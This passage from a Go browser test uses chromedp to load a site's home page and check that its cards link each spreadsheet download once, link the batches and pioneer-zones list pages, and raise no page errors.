		b.do(t, chromedp.Navigate(b.base+"index.html"), chromedp.WaitReady(chromedp.CSS("body")))
		if n := get(t, b, chromedp.Evaluate[int](`document.querySelectorAll('.cards a[href="`+dir+kind+`.xlsx"]').length`)); n != 1 {
			t.Errorf("the home links %s%s.xlsx %d times, want once", dir, kind, n)
		}
	}
	if n := get(t, b, chromedp.Evaluate[int](`document.querySelectorAll('.cards a[href="batches/index.html"], .cards a[href="pioneer-zones/index.html"]').length`)); n != 2 {
		t.Errorf("the home links %d pages of lists, want the two kinds'", n)
	}
	b.noErrors(t, "home")
}
